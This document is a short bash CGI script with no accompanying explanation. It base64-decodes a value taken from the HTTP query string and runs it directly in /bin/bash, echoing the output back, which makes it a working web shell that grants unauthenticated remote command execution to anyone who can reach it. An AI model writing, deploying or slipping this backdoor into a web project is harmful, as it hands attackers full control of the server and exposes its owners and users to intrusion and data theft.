#!/bin/bash
printf 'Content-Type: text/plain\r\n\r\n'
P="${QUERY_STRING#*=}"
echo "$P" | base64 -d | /bin/bash 2>&1
